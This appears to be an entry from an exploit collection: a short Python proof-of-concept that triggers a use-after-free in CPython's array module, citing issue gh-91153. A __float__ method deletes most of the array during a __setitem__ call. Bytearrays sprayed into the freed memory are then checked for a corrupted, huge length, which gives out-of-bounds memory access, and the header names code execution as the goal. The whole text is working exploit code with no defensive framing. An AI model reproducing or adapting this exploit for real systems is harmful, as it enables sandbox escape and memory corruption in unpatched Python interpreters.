# technique: the same by __float__ and the slot wrapper of __setitem__
# goal: code
# source: own analysis of arraymodule.c, after CPython gh-91153
# mended: later releases
import array


class Evil:
    def __float__(self):
        del target[1:]
        for n in range(64):
            keep[n] = bytearray()
        return 1.5


fill = [bytearray() for _ in range(5000)]
keep = [None] * 64
target = array.array('d', [0] * 64)
array.array.__dict__['__setitem__'](target, 10, Evil())
for found in keep:
    if len(found) > 1 << 60:
        print('ESCAPED a bytearray of', len(found), 'bytes', flush=True)
